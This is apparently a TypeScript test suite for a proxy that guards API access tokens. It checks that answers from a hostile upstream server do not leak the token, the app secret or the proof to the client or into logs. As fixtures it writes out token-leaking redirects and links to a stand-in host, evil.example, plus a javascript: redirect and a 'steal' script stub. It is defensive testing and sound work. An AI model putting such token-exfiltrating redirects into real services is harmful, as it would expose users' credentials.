// The server behind a proxy may be broken, or somebody else's: it answers with tokens, leads elsewhere, or sends no JSON.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { app, proxiedVault, type ProxiedVault, PROXY } from './proxied-vault.ts';

const other = `EAAother${'x'.repeat(60)}`;

describe('a hostile server behind the proxy', () => {
  let scene: ProxiedVault;
  let handle = '';
  let answer: (() => Response) | undefined;
  before(async () => {
    scene = await proxiedVault({ upstream: () => answer?.() });
    handle = await scene.handle('GET /me, GET /me/accounts, GET /me/picture, POST /me/feed', {
      callsPerMinute: 10_000,
    });
  });
  after(() => scene.close());

  const json =
    (value: unknown, headers: Record<string, string> = {}, status = 200) =>
    (): Response =>
      new Response(JSON.stringify(value), { status, headers: { 'content-type': 'application/json', ...headers } });
  const redirect =
    (location: string, status = 302) =>
    (): Response =>
      new Response(null, { status, headers: { location } });
  const encoded = (text: string): string => encodeURIComponent(encodeURIComponent(text));

  /** Answers that hold the token of the connection, another one, the secret of the app or the proof. */
  const answers = (): Record<string, () => Response> => {
    const { token } = scene;
    return {
      'the token of a Page in a list': json({ data: [{ id: '1', access_token: other }] }),
      'the token under a name of its own': json({ id: '1', nothing_special: token }),
      'another token in a text': json({ message: `hello ${other} bye` }),
      'the token in a key': json({ [token]: 1 }),
      'the token within JSON in a text': json({ body: JSON.stringify({ access_token: other, note: token }) }),
      'the token in a link, encoded twice': json({
        url: `https://cdn.example.com/?to=${encoded(`?access_token=${token}`)}`,
      }),
      'the token in a link to elsewhere': json({
        paging: { next: `https://evil.example/next?access_token=${token}&after=x` },
      }),
      'the token in the path of a link': json({ url: `https://cdn.example.com/${token}` }),
      'the token in the user of a link': json({ url: `https://${token}@cdn.example.com/?client_secret=x` }),
      'the secret of the app in words': json(
        { error: { message: `bad secret ${app.secret}`, code: 1, type: 'x' } },
        {},
        400,
      ),
      'a token that is repeated by an error': json(
        { error: { message: `Malformed access token ${token}`, code: 190 } },
        {},
        400,
      ),
      'an app token': json({ value: `${app.id}|${app.secret}` }),
      'the token in a header': json(
        { id: '1' },
        { 'x-app-usage': token, 'x-secret': token, 'set-cookie': `a=${token}` },
      ),
      'a new token of its own': json({ access_token: other, token_type: 'bearer', refresh_token: 'r3fr3sh' }),
      'a page of HTML': () => new Response(`<html>${token}</html>`, { headers: { 'content-type': 'text/html' } }),
      'a script': () => new Response(`steal({"a":"${token}"})`, { headers: { 'content-type': 'text/javascript' } }),
      'an object that never ends': () => new Response(`${'{"a":'.repeat(500)}"${token}"${'}'.repeat(500)}`),
      'a redirect with the token': redirect(`https://evil.example/?access_token=${token}`),
      'a redirect with the token in its path': redirect(`https://evil.example/${token}`, 307),
      'a redirect with the token encoded': redirect(`https://evil.example/?u=${encoded(token)}`, 308),
      'a redirect to another scheme': redirect(`javascript:alert("${token}")`),
      'a redirect to nowhere': () => new Response(null, { status: 302 }),
    };
  };

  test('VT-10: no answer hands on a token, a secret or a proof, and no redirect is followed', async () => {
    for (const [title, one] of Object.entries(answers())) {
      answer = one;
      const before = scene.sent.length;
      const { status, headers, body } = await scene.ask(handle, '/me');
      assert.equal(scene.sent.length, before + 1, `${title}: followed`);
      const proof = scene.sent.at(-1)?.url.searchParams.get('appsecret_proof') ?? 'none';
      const all = `${JSON.stringify(headers)}${body}`;
      for (const secret of [scene.token, other, app.secret, proof, 'r3fr3sh', 'client_secret'])
        for (const spelled of [secret, encodeURIComponent(secret), encoded(secret)])
          assert.ok(!all.includes(spelled), `${title}: ${status} ${all}`);
      assert.ok(!all.includes('evil.example') || !all.includes('hph_'), `${title}: the handle goes elsewhere`);
      assert.equal(headers['set-cookie'], undefined);
    }
  });

  test('VT-10: the items of a batch are looked through like answers of their own', async () => {
    answer = json([
      {
        code: 200,
        headers: [
          { name: 'Location', value: `https://evil.example/${scene.token}` },
          { name: 'ETag', value: '"x"' },
        ],
        body: JSON.stringify({ data: [{ access_token: other, id: '1' }], note: scene.token }),
      },
      null,
    ]);
    const items = JSON.stringify([{ relative_url: 'me/accounts' }, { relative_url: 'me' }]);
    const { body, status } = await scene.ask(handle, {
      method: 'POST',
      target: `/?batch=${encodeURIComponent(items)}`,
    });
    assert.equal(status, 200);
    assert.deepEqual(JSON.parse(body), [
      {
        code: 200,
        headers: [{ name: 'ETag', value: '"x"' }],
        body: JSON.stringify({ data: [{ id: '1' }], note: '[not shown by the proxy]' }),
      },
      null,
    ]);
    answer = json([{ code: 200, body: `<html>${scene.token}</html>` }]);
    const broken = await scene.ask(handle, { method: 'POST', target: `/?batch=${encodeURIComponent(items)}` });
    assert.equal(broken.status, 502);
  });

  test('links of the server lead back to the proxy with the handle, and people’s words stay as they wrote them', async () => {
    const base = scene.emulator.url;
    answer = json({
      data: [{ id: '1', message: '[1, 2] {"a": 1} code=x token', code: 'USD', url: `${base}/platform/picture/1.svg` }],
      paging: { next: `${base}/v25.0/1/accounts?access_token=${scene.token}&limit=1&after=x&appsecret_proof=y` },
    });
    const { body } = await scene.ask(handle, '/me/accounts');
    assert.deepEqual(JSON.parse(body), {
      data: [{ id: '1', message: '[1, 2] {"a": 1} code=x token', code: 'USD', url: `${base}/platform/picture/1.svg` }],
      paging: { next: `${PROXY}/v25.0/1/accounts?limit=1&after=x&access_token=${handle}` },
    });
    answer = redirect('https://cdn.example.com/picture.jpg?x=1');
    const picture = await scene.ask(handle, '/me/picture');
    assert.deepEqual(
      [picture.status, picture.headers['location'], picture.body],
      [302, 'https://cdn.example.com/picture.jpg?x=1', ''],
    );
  });

  test('VT-10: nothing of an answer is in the log or in the lines of calls', async () => {
    const rows = JSON.stringify(await scene.vault.parts.db.read.selectFrom('handle_calls').selectAll().execute());
    const events = JSON.stringify(await scene.vault.parts.db.read.selectFrom('events').selectAll().execute());
    for (const text of [rows, events, scene.log.join('\n')])
      for (const secret of [scene.token, other, app.secret, handle, 'evil.example', 'r3fr3sh'])
        assert.ok(!text.includes(secret), secret);
  });

  test('a server that is away is a server that is away, and the program may come again', async () => {
    answer = () => {
      throw new TypeError(`connect ECONNREFUSED ?access_token=${scene.token}`);
    };
    const { status, headers, json: body } = await scene.ask(handle, '/me');
    assert.deepEqual([status, headers['retry-after']], [503, '5']);
    assert.ok(!JSON.stringify(body).includes(scene.token));
  });
});
